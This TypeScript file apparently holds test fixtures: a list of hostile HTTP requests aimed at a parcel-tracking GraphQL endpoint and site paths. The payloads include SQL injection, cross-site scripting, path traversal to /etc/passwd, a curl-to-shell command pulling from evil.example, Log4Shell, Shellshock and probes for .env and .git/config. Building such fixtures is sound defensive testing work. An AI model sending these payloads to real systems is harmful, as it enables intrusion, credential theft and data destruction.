/** A request as anybody may send it. */
export interface Attempt {
  name: string;
  method?: string;
  path: string;
  headers?: Record<string, string>;
  body?: string;
}

const TRACK =
  "query($number: String!, $postalCode: String) { publicTrack(number: $number, postalCode: $postalCode) { __typename } }";

/** An attack by a variable of a document that anybody may ask. */
const byVariable = (name: string, number: string): Attempt => ({
  name,
  method: "POST",
  path: "/graphql",
  headers: { "content-type": "application/json" },
  body: JSON.stringify({ query: TRACK, variables: { number, postalCode: "04103" } }),
});

const byQuery = (name: string, path: string): Attempt => ({ name, path });

const byHeader = (name: string, header: string, value: string): Attempt => ({
  name,
  path: "/",
  headers: { [header]: value },
});

/** Common attacks, each of a kind of its own. */
export const ATTACKS: readonly Attempt[] = [
  byVariable("SQL: always true", "x' OR '1'='1' -- "),
  byVariable("SQL: union of another table", "1 UNION SELECT email, password FROM users"),
  byVariable("SQL: a second statement", "1'; DROP TABLE orders; --"),
  byVariable("SQL: told by time", "1' AND SLEEP(10) AND '1'='1"),
  byVariable("SQL: told by time, PostgreSQL", "1'; SELECT pg_sleep(10)--"),
  byVariable("SQL: by comments", "1'/**/UNION/**/SELECT/**/NULL,version()--"),
  byVariable("script in a page", "<script>alert(document.cookie)</script>"),
  byVariable("script by an event", '"><img src=x onerror=alert(1)>'),
  byVariable("script by an address", '<a href="javascript:alert(1)">parcel</a>'),
  byVariable("script by a drawing", "<svg/onload=alert(1)>"),
  byVariable("a frame", '<iframe src="https://evil.example/">'),
  byVariable("a path upwards", "../../../../etc/passwd"),
  byVariable("a file of the system", "/etc/shadow"),
  byVariable("a command", "x; cat /etc/passwd"),
  byVariable("a command in brackets", "$(curl http://evil.example/x.sh | sh)"),
  byVariable("a command of Windows", "x & powershell.exe -enc SQBFAFgA"),
  byVariable("Log4Shell", `\${jndi:ldap://evil.example/a}`),
  byVariable("Java by reflection", "java.lang.Runtime.getRuntime().exec('id')"),
  byVariable("Struts: an expression", "%{(#a=new java.lang.ProcessBuilder('id')).start()}"),
  byVariable("Shellshock in a body", "() { :; }; /bin/bash -c id"),
  byVariable("Node, serialised", "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"),
  byQuery("a file by PHP's wrapper", "/?page=php://filter/convert.base64-encode/resource=index.php"),
  byQuery("SQL in an address", "/?id=1%27%20OR%20%271%27=%271"),
  byQuery("script in an address", "/?q=%3Cscript%3Ealert(1)%3C/script%3E"),
  byQuery("a path upwards in an address", "/labels/..%252f..%252fetc%252fpasswd"),
  byQuery("a file of another host", "/?page=http://10.0.0.1/shell.txt?"),
  byQuery("a command in an address", "/?host=127.0.0.1;cat%20/etc/passwd"),
  byQuery("settings of a repository", "/.git/config"),
  byQuery("the environment", "/.env"),
  byQuery("accounts of a web server", "/.htpasswd"),
  byQuery("PHP in an address", "/?x=%3C?php%20system($_GET[1]);?%3E"),
  byQuery("two answers in one", "/?next=%0d%0aSet-Cookie:%20session=1"),
  byQuery("a NUL byte", "/?file=label.pdf%00.html"),
  byQuery("a log of the server", "/?file=../../../../var/log/nginx/access.log"),
  byHeader("a scanner by its name", "user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
  byHeader("another scanner", "user-agent", "Nikto/2.5.0"),
  byHeader("Shellshock in a header", "user-agent", "() { :;}; /bin/bash -c 'cat /etc/passwd'"),
  byHeader("script in a referrer", "referer", "https://x.example/?<script>alert(1)</script>"),
  byHeader("SQL in a cookie", "cookie", "session=1' UNION SELECT password FROM users--"),
  { name: "a method that shows headers", method: "TRACK", path: "/" },
];
